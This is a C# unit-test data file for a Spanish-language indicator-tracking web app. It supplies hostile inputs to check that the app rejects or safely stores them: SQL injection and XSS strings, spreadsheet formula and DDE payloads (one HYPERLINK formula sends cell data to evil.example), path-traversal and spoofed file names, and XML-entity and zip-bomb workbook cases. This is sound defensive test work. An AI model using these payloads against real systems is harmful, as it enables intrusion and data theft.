using System.IO.Compression;
using System.Text;
using PeiTracker.Domain;
using PeiTracker.Web.Imports;
using PeiTracker.Web.Tests.Imports;

namespace PeiTracker.Web.Tests.Security;

/// <summary>The building blocks the hostile-input battery multiplies together.</summary>
public static class HostileInputs
{
    public const string Percentage = "Un porcentaje";

    /// <summary>Numbers no number field may accept, each with the message the person must see.</summary>
    public static readonly (string Input, string Message)[] MalformedNumbers =
    [
        ("95,5", DecimalText.CommaMessage),
        ("1,000", DecimalText.CommaMessage),
        ("1.000,5", DecimalText.CommaMessage),
        (",5", DecimalText.CommaMessage),
        ("abc", DecimalText.InvalidMessage),
        ("1e5", DecimalText.InvalidMessage),
        ("1E-3", DecimalText.InvalidMessage),
        ("0x1F", DecimalText.InvalidMessage),
        ("NaN", DecimalText.InvalidMessage),
        ("Infinity", DecimalText.InvalidMessage),
        ("-Infinity", DecimalText.InvalidMessage),
        ("∞", DecimalText.InvalidMessage),
        ("-", DecimalText.InvalidMessage),
        (".", DecimalText.InvalidMessage),
        ("1.", DecimalText.InvalidMessage),
        (".5", DecimalText.InvalidMessage),
        ("1..2", DecimalText.InvalidMessage),
        ("1.2.3", DecimalText.InvalidMessage),
        ("+5", DecimalText.InvalidMessage),
        ("--5", DecimalText.InvalidMessage),
        ("5%", DecimalText.InvalidMessage),
        ("S/ 5", DecimalText.InvalidMessage),
        ("1 000", DecimalText.InvalidMessage),
        ("1_000", DecimalText.InvalidMessage),
        ("١٢", DecimalText.InvalidMessage),
        ("１２", DecimalText.InvalidMessage),
        ("½", DecimalText.InvalidMessage),
        ("1/2", DecimalText.InvalidMessage),
        ("1\n2", DecimalText.InvalidMessage),
        ("1\u00002", DecimalText.InvalidMessage),
        ("%00", DecimalText.InvalidMessage),
        ("5; DROP TABLE targets; --", DecimalText.InvalidMessage),
        ("' OR '1'='1", DecimalText.InvalidMessage),
        ("<script>alert(1)</script>", DecimalText.InvalidMessage),
        ("=1+1", DecimalText.InvalidMessage),
        ("=HYPERLINK(\"http://x.example\")", DecimalText.InvalidMessage),
        ("null", DecimalText.InvalidMessage),
        ("true", DecimalText.InvalidMessage),
        ("[]", DecimalText.InvalidMessage),
        ("1000000000000", DecimalText.TooLargeMessage),
        ("-1000000000000", DecimalText.TooLargeMessage),
        ("79228162514264337593543950336", DecimalText.TooLargeMessage),
        ("0.00000000000000000000000000001", DecimalText.TooLargeMessage),
        ("1" + new string('0', 5_000), DecimalText.TooLargeMessage),
    ];

    /// <summary>Well-formed numbers outside what a percentage indicator admits.</summary>
    public static readonly (string Input, string Message)[] OutOfRangeForPercentage =
    [
        ("-1", "no puede ser negativo"),
        ("-0.5", "no puede ser negativo"),
        ("100.5", "entre 0 y 100"),
        ("99999", "entre 0 y 100"),
        ("1.12345", $"Use como máximo {Indicator.MaxDecimals} decimales"),
    ];

    /// <summary>Text that is legitimate to store, and dangerous if a page rendered it as markup or a spreadsheet as a formula.</summary>
    public static readonly string[] MarkupAndFormulas =
    [
        "<script data-hostile>alert('xss')</script>",
        "<img src=x onerror=alert(1) data-hostile>",
        "\"><svg data-hostile onload=alert(1)>",
        "'><iframe data-hostile src=javascript:alert(1)></iframe>",
        "</textarea><script data-hostile>alert(1)</script>",
        "</title><b data-hostile>negrita</b>",
        "<a data-hostile href=\"javascript:alert(1)\">clic</a>",
        "<style data-hostile>body{display:none}</style>",
        "<!-- <b data-hostile>comentario</b>",
        "<b data-hostile onmouseover=\"alert(1)\">pase el ratón</b>",
        "&lt;b&gt;ya escapado&lt;/b&gt; &amp; &#60;",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"clic\")",
        "=CMD|' /C calc'!A0",
        "+SUM(1;2)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "{{constructor.constructor('alert(1)')()}} ${7*7}",
        "' OR 1=1; DROP TABLE indicators; --",
        "Informe \u202Efdp.exe",
        "Ñandú «comillas» — ✓ 😀 \\ / %00",
    ];

    public enum NumberField
    {
        ValueSave,
        ValueSend,
        Api,
        Target,
        Baseline,
        PermissibleLimit,
    }

    public static TheoryData<NumberField, string, string> BadNumbers()
    {
        var data = new TheoryData<NumberField, string, string>();
        foreach (var field in Enum.GetValues<NumberField>())
        {
            foreach (var (input, message) in MalformedNumbers)
            {
                data.Add(field, input, message);
            }
        }

        foreach (var field in new[] { NumberField.ValueSave, NumberField.ValueSend, NumberField.Api, NumberField.Target })
        {
            foreach (var (input, message) in OutOfRangeForPercentage)
            {
                data.Add(field, input, message);
            }
        }

        return data;
    }

    public enum IntegerField
    {
        Decimals,
        Relevance,
        Unit,
        Direction,
        Aggregation,
        BaselineYear,
        Priority,
    }

    /// <summary>Whole-number and list fields: malformed, overflowing, out of range, empty.</summary>
    public static readonly string[] MalformedIntegers =
        ["abc", "1.5", "1,5", "99999999999", "-2147483649", "", " ", "0x10", "1e2", "<b>1</b>", "١", "NaN", "-7", "150"];

    public static TheoryData<IntegerField, string> BadIntegers()
    {
        var data = new TheoryData<IntegerField, string>();
        foreach (var field in Enum.GetValues<IntegerField>())
        {
            foreach (var input in MalformedIntegers)
            {
                data.Add(field, input);
            }
        }

        return data;
    }

    public enum TextField
    {
        ValueComment,
        ValueDataSource,
        ApiComment,
        ReviewComment,
        ObserveReason,
        IndicatorName,
        IndicatorJustification,
        IndicatorEditReason,
        TargetsReason,
        Statement,
        StatementReason,
    }

    public static TheoryData<TextField, int> AcceptedText()
    {
        var data = new TheoryData<TextField, int>();
        foreach (var field in Enum.GetValues<TextField>())
        {
            for (var i = 0; i < MarkupAndFormulas.Length; i++)
            {
                data.Add(field, i);
            }
        }

        return data;
    }

    public enum TextAbuse
    {
        OverLimit,
        NullCharacter,
    }

    /// <summary>Each text field with the length it admits.</summary>
    public static readonly (TextField Field, int Max)[] TextLimits =
    [
        (TextField.ValueComment, 2000),
        (TextField.ValueDataSource, 1000),
        (TextField.ApiComment, 2000),
        (TextField.ObserveReason, 1000),
        (TextField.IndicatorName, 1000),
        (TextField.IndicatorJustification, 4000),
        (TextField.IndicatorEditReason, 1000),
        (TextField.TargetsReason, 1000),
        (TextField.Statement, 2000),
        (TextField.StatementReason, 1000),
    ];

    public static TheoryData<TextField, TextAbuse> RejectedText()
    {
        var data = new TheoryData<TextField, TextAbuse>();
        foreach (var (field, _) in TextLimits)
        {
            foreach (var abuse in Enum.GetValues<TextAbuse>())
            {
                data.Add(field, abuse);
            }
        }

        return data;
    }

    public static string AbusiveText(TextField field, TextAbuse abuse) => abuse switch
    {
        TextAbuse.OverLimit => new string('x', TextLimits.Single(l => l.Field == field).Max + 1),
        _ => "Texto con un carácter nulo \u0000 en medio",
    };

    // ---- Files -------------------------------------------------------------------------------

    /// <summary>
    /// Names that try to leave the upload folder, hide their type, or carry markup, each with the
    /// extension the file must be judged by once its path and unsafe characters are gone (null: a
    /// name no content can make acceptable).
    /// </summary>
    public static readonly (string Name, string? Extension)[] FileNameTricks =
    [
        ("acta.pdf", ".pdf"),
        ("../../../../etc/passwd.pdf", ".pdf"),
        ("..\\..\\..\\Windows\\win.ini.pdf", ".pdf"),
        ("/etc/cron.d/acta.pdf", ".pdf"),
        ("C:\\inetpub\\wwwroot\\acta.pdf", ".pdf"),
        ("%2e%2e%2f%2e%2e%2facta.pdf", ".pdf"),
        ("acta.pdf.exe", null),
        ("acta.exe.pdf", ".pdf"),
        ("acta.pdf;.php", null),
        ("<img src=x onerror=alert(1) data-hostile>.pdf", ".pdf"),
        ("'><svg data-hostile onload=alert(1)>.pdf", ".pdf"),
        ("....pdf", null),
        (".htaccess", null),
        ("CON.pdf", ".pdf"),
        (new string('a', 300) + ".pdf", ".pdf"),
        ("informe\u202Efdp.exe", null),
        ("acta.PDF", ".pdf"),
        ("foto.png", ".png"),
        ("informe.docx", ".docx"),
        ("matriz.xlsx", ".xlsx"),
        ("pagina.html", null),
        ("dibujo.svg", null),
    ];

    public enum FileContent
    {
        Pdf,
        Png,
        Docx,
        Xlsx,
        Html,
        Svg,
        WindowsExecutable,
        ZipWithoutOfficeParts,
        Empty,
    }

    public static TheoryData<int, FileContent> EvidenceFiles()
    {
        var data = new TheoryData<int, FileContent>();
        for (var name = 0; name < FileNameTricks.Length; name++)
        {
            foreach (var content in Enum.GetValues<FileContent>())
            {
                data.Add(name, content);
            }
        }

        return data;
    }

    public static bool ContentMatches(FileContent content, string? extension) => (content, extension) switch
    {
        (FileContent.Pdf, ".pdf") => true,
        (FileContent.Png, ".png") => true,
        (FileContent.Docx, ".docx") => true,
        (FileContent.Xlsx, ".xlsx") => true,
        _ => false,
    };

    public static byte[] Bytes(FileContent content) => content switch
    {
        FileContent.Pdf => Encoding.ASCII.GetBytes("%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF"),
        FileContent.Png => [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52],
        FileContent.Docx => Zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document/>")),
        FileContent.Xlsx => Zip(("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<workbook/>")),
        FileContent.Html => Encoding.UTF8.GetBytes("<html><body><script>alert(document.cookie)</script></body></html>"),
        FileContent.Svg => Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
        FileContent.WindowsExecutable => [0x4D, 0x5A, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00],
        FileContent.ZipWithoutOfficeParts => Zip(("leeme.txt", "hola")),
        _ => [],
    };

    public static byte[] Zip(params (string Name, string Content)[] entries)
    {
        var output = new MemoryStream();
        using (var zip = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                using var stream = zip.CreateEntry(name).Open();
                stream.Write(Encoding.UTF8.GetBytes(content));
            }
        }

        return output.ToArray();
    }

    // ---- Workbooks ---------------------------------------------------------------------------

    /// <summary>Ways a matrix file can be damaged, oversized or built to exhaust the server.</summary>
    public enum WorkbookDamage
    {
        TruncatedTenPercent,
        TruncatedHalf,
        TruncatedLastByte,
        ZipHeaderThenNoise,
        NoContentTypes,
        NoWorkbookPart,
        NoSheetPart,
        NoSharedStrings,
        SheetNotXml,
        SheetBillionLaughs,
        SheetExternalEntity,
        SharedStringsNotXml,
        EntryNamedOutsideThePackage,
        ThousandsOfEntries,
        SheetInflatesTo60MB,
        SharedStringsInflateTo60MB,
        ManyPartsInflateTo120MB,
        MoreRowsThanAllowed,
        OverFileSizeLimit,
        NotAZip,
        EmptyFile,
        DocxRenamed,
    }

    public static readonly string[] WorkbookFileNames =
    [
        "matriz.xlsx",
        "../../../tmp/matriz.xlsx",
        "<img src=x onerror=alert(1) data-hostile>.xlsx",
    ];

    public static TheoryData<WorkbookDamage, int> DamagedWorkbooks()
    {
        var data = new TheoryData<WorkbookDamage, int>();
        foreach (var damage in Enum.GetValues<WorkbookDamage>())
        {
            for (var name = 0; name < WorkbookFileNames.Length; name++)
            {
                data.Add(damage, name);
            }
        }

        return data;
    }

    /// <summary>Cell contents a matrix may carry in its number columns, with the message expected.</summary>
    public static readonly (object Cell, string Message)[] HostileCells =
    [
        ("=1+1", DecimalText.InvalidMessage),
        ("=CMD|' /C calc'!A0", DecimalText.InvalidMessage),
        ("@SUM(A1)", DecimalText.InvalidMessage),
        ("<script>alert(1)</script>", DecimalText.InvalidMessage),
        ("95,5", DecimalText.CommaMessage),
        ("1e5", DecimalText.InvalidMessage),
        ("1" + new string('0', 40), DecimalText.TooLargeMessage),
        (new RawNumber("1E+300"), DecimalText.TooLargeMessage),
        (new RawNumber("-1E+300"), DecimalText.TooLargeMessage),
        (new RawNumber("NaN"), MatrizPeiImporter.UnreadableNumberMessage),
        (new RawNumber("INF"), MatrizPeiImporter.UnreadableNumberMessage),
        (new RawNumber("1.5.5"), MatrizPeiImporter.UnreadableNumberMessage),
        (new RawNumber("0x10"), MatrizPeiImporter.UnreadableNumberMessage),
        (new ExcelError("#DIV/0!"), MatrizPeiImporter.ExcelErrorMessage("#DIV/0!")),
        (new ExcelError("<b>#N/A</b>"), "error de Excel"),
    ];

    public enum MatrizColumn
    {
        BaselineYear,
        BaselineValue,
        FutureTarget,
    }

    public static TheoryData<int, MatrizColumn> HostileWorkbookCells()
    {
        var data = new TheoryData<int, MatrizColumn>();
        for (var cell = 0; cell < HostileCells.Length; cell++)
        {
            foreach (var column in Enum.GetValues<MatrizColumn>())
            {
                data.Add(cell, column);
            }
        }

        return data;
    }
}
